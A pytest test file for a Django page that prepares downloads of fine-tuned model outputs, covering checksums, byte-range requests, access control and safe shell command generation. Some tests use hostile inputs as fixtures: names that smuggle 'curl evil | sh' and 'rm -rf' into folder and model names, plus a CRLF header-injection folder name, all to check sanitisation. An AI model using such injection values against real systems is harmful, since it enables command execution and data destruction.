import hashlib

import pytest

from console.presenters.tuning.takeaway import run_lines
from jobs.models import OutputListing, Takeaway
from jobs.services.storage import output_files
from jobs.services.tuned_models import takeaways
from tests.support import factories

pytestmark = pytest.mark.django_db
FOLDER = "postprocess/node-0/checkpoints/final"
WEIGHTS = bytes(range(256)) * 20


@pytest.fixture
def visitor(client, owner):
    client.force_login(owner)
    return client


@pytest.fixture
def job(fake_gateway):
    job = factories.job(state="SUCCEEDED", display_name="My “model”; rm -rf")
    place = f"{job.output_uri}/{FOLDER}"
    fake_gateway.storage.objects |= {f"{place}/config.json": b"{}", f"{place}/model.safetensors": WEIGHTS}
    return job


def url(job):
    return f"/tuning/jobs/{job.pk}/download/"


def prepared(visitor, job):
    visitor.get(url(job))
    output_files.run(job.pk, factories.NOW)
    visitor.post(url(job), {"take": f"merged {job.output_uri}/{FOLDER}"})
    row = Takeaway.objects.get(form="merged")
    while takeaways.advance(row.pk, factories.NOW):
        pass
    return row


def body(response):
    return b"".join(response.streaming_content)


def test_sizes_are_shown_before_anything_is_prepared(visitor, job):
    assert "Loading the list…" in visitor.get(url(job)).content.decode()
    output_files.run(job.pk, factories.NOW)
    text = visitor.get(url(job)).content.decode().replace("\xa0", " ")
    assert ("About 5.0 KB" in text, "Prepare the download" in text, Takeaway.objects.count()) == (True, True, 0)


def test_who_asks_for_one_comes_back_to_it_and_hears_when_it_is_ready(visitor, job):
    visitor.get(url(job))
    output_files.run(job.pk, factories.NOW)
    wanted = {"take": f"gguf-q8_0 {job.output_uri}/{FOLDER}"}
    assert visitor.post(url(job), wanted).headers["Location"] == f"{url(job)}#offer-3"
    text = visitor.get(url(job)).content.decode()
    shown = text.partition('id="offer-3"')[2].partition("</h3>")[0]
    assert (shown.rpartition(">")[2], text.count('aria-labelledby="take-1-3 offer-1-3 group-1"')) == ("GGUF, Q8_0", 0)
    assert text.count('aria-labelledby="take-1-1 offer-1-1 group-1"') == 1
    prepared(visitor, job)
    assert "Whole model (safetensors) of final is ready." in visitor.get(url(job)).content.decode()


def test_the_page_has_checksums_and_lines_that_no_name_can_break(visitor, job):
    row = prepared(visitor, job)
    text = visitor.get(url(job)).content.decode()
    assert hashlib.sha256(WEIGHTS).hexdigest() in text
    assert "vllm serve ./my-model-rm-rf-final-merged --port 8000" in text
    sums = visitor.get(f"/tuning/downloads/{row.pk}/sha256").content.decode().splitlines()
    assert sums[1] == f"{hashlib.sha256(WEIGHTS).hexdigest()}  model.safetensors"


def test_a_file_is_taken_whole_or_from_where_it_was_cut_off(visitor, job):
    address = f"/tuning/downloads/{prepared(visitor, job).pk}/1/"
    whole = visitor.get(address)
    assert (whole.status_code, whole["Content-Length"], whole["Accept-Ranges"]) == (200, "5120", "bytes")
    assert body(whole) == WEIGHTS
    rest = visitor.get(address, headers={"Range": "bytes=5000-", "If-Range": whole["ETag"]})
    assert (rest.status_code, rest["Content-Range"], rest["Content-Length"]) == (206, "bytes 5000-5119/5120", "120")
    assert body(rest) == WEIGHTS[5000:]


@pytest.mark.parametrize(
    ("header", "status", "expected"),
    [("bytes=0-0", 206, "bytes 0-0/5120"), ("bytes=-10", 206, "bytes 5110-5119/5120"),
     ("bytes=10-99999", 206, "bytes 10-5119/5120"), ("bytes=5120-", 416, "bytes */5120"),
     ("bytes=9-3", 416, "bytes */5120"), ("bytes=0-1,5-6", 200, ""), ("lines=1-2", 200, ""), ("bytes=-", 200, "")],
)  # fmt: skip
def test_parts_that_are_asked_for(visitor, job, header, status, expected):
    response = visitor.get(f"/tuning/downloads/{prepared(visitor, job).pk}/1/", headers={"Range": header})
    assert (response.status_code, response.get("Content-Range", "")) == (status, expected)
    response.close()
    assert takeaways.slots.taken.total() == 0


def test_something_else_by_now_is_sent_from_its_beginning(visitor, job):
    address = f"/tuning/downloads/{prepared(visitor, job).pk}/archive.tar"
    response = visitor.get(address, headers={"Range": "bytes=100-", "If-Range": '"another"'})
    assert (response.status_code, len(body(response))) == (200, int(response["Content-Length"]))
    response.close()


def test_what_was_prepared_can_be_removed(visitor, job):
    prepared(visitor, job)
    visitor.post(url(job), {"take": f"merged {job.output_uri}/{FOLDER}", "do": "remove"})
    assert Takeaway.objects.count() == 0


def test_what_is_not_offered_is_refused(visitor, job):
    assert visitor.post(url(job), {"take": "merged gs://other/folder"}).status_code == 400


def test_nobody_else_gets_at_it(visitor, job, client, stranger):
    row = prepared(visitor, job)
    client.force_login(stranger)
    addresses = [url(job), *(f"/tuning/downloads/{row.pk}/{rest}" for rest in ("0/", "archive.tar", "sha256"))]
    assert [client.get(address).status_code for address in addresses] == [404] * 4


def test_neither_a_folder_nor_a_model_can_write_a_line_for_a_shell(visitor, fake_gateway):
    """Whoever may write to the bucket names the folders; whoever answers for Vertex AI names the models."""
    hostile = "checkpoint-5'; curl evil | sh; \""
    job = factories.job(state="SUCCEEDED", display_name="ok", base_model="google/gemma3@x; rm -rf ~")
    place = f"{job.output_uri}/postprocess/node-0/checkpoints/{hostile}"
    files = {"adapter_config.json": b"{}", "adapter_model.safetensors": WEIGHTS, "..": b"up", ".": b"here"}
    fake_gateway.storage.objects |= {f"{place}/{name}": content for name, content in files.items()}
    visitor.get(url(job))
    output_files.run(job.pk, factories.NOW)
    visitor.post(url(job), {"take": f"adapter {place}"})
    row = Takeaway.objects.get()
    while takeaways.advance(row.pk, factories.NOW):
        pass
    name = "ok-checkpoint-5-curl-evil-sh-adapter"
    assert [one["name"] for one in row.files] == ["adapter_config.json", "adapter_model.safetensors"]
    lines = dict(run_lines(row))
    assert lines["vLLM"] == f"tar -xf {name}.tar\nvllm serve BASE-MODEL --enable-lora --lora-modules mine=./{name}"
    assert "from_pretrained('BASE-MODEL')" in lines["transformers"]
    for part in ("archive.tar", "sha256"):
        response = visitor.get(f"/tuning/downloads/{row.pk}/{part}")
        assert (response.status_code, f'filename="{name}.' in response["Content-Disposition"]) == (200, True)


def test_a_folder_to_which_no_address_leads_is_left_out_and_keeps_nobody_waiting(visitor, job, fake_gateway):
    place = f"{job.output_uri}/postprocess/node-0/checkpoints/final\r\nX-Evil: 1"
    fake_gateway.storage.objects |= {f"{place}/adapter_config.json": b"{}", f"{job.output_uri}/a\nb": b""}
    visitor.get(url(job))
    output_files.run(job.pk, factories.NOW)
    names = [one["name"] for one in OutputListing.objects.get().files]
    assert names == [f"{FOLDER}/config.json", f"{FOLDER}/model.safetensors"]
    assert visitor.post(url(job), {"take": f"adapter {place}"}).status_code == 400
    assert Takeaway.objects.count() == 0
